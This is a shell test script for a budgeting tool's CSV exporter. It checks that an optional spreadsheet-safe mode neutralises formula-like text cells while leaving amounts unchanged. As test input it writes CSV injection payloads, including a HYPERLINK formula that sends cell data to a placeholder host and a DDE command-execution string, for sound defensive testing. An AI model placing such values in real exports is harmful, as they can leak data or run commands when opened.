#!/bin/bash
# SPDX-License-Identifier: MIT
# -o excel_safe=true: a text cell a spreadsheet would run as a formula (= + - @,
# tab, CR first) gets a leading apostrophe; amounts, negative ones too, and
# plain numbers never do. Off by default (docs/csv-format.md says why), where
# text is written exactly as read.
. "$(dirname "$0")/lib.sh"
[ -f "$BUDGETKIT_PLUGIN_PATH/bk_csv.so" ] && [ -f "$BUDGETKIT_PLUGIN_PATH/bk_json.so" ] || exit 77
"$BK_PYTHON" - "$BK_SOURCE_DIR/samples/seed-first-tables.json" "$scratch/in.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
t = d["document"]["tables"][0]["panels"][0]["rows"]
t[0]["name"] = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
t[1]["name"] = "+1+cmd|' /C calc'!A0"
t[2]["name"] = "-2+3"
t[3]["name"] = "@SUM(1,2)"
t[4]["cells"] = [-3240.00]
json.dump(d, open(sys.argv[2], "w"), ensure_ascii=False)
PY
for layout in report long; do
    "$BK_BIN" convert "$scratch/in.json" "$scratch/$layout.csv" -o layout=$layout -o excel_safe=true -q || fail "$layout: convert failed"
    "$BK_PYTHON" - "$scratch/$layout.csv" <<'PY' || fail "$layout: a formula-like cell is unguarded or an amount was touched"
import csv, sys
cells = [c for row in csv.reader(open(sys.argv[1], encoding="utf-8")) for c in row]
for c in cells:
    assert not (c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.replace("-", "", 1).replace(".", "", 1).isdigit())), c
for want in ["'=HYPERLINK(", "'+1+cmd|", "'-2+3", "'@SUM(1,2)"]:
    assert any(c.startswith(want) for c in cells), want
assert "-3240.0" in cells, "the negative amount changed"  # (json.dump prints -3240.0)
PY
    "$BK_BIN" convert "$scratch/in.json" "$scratch/$layout-raw.csv" -o layout=$layout -q || fail "$layout: convert failed"
    grep -q -F -- '-2+3' "$scratch/$layout-raw.csv" && ! grep -q -F -- "'-2+3" "$scratch/$layout-raw.csv" ||
        fail "$layout: by default the text is not as read"
done
echo ok
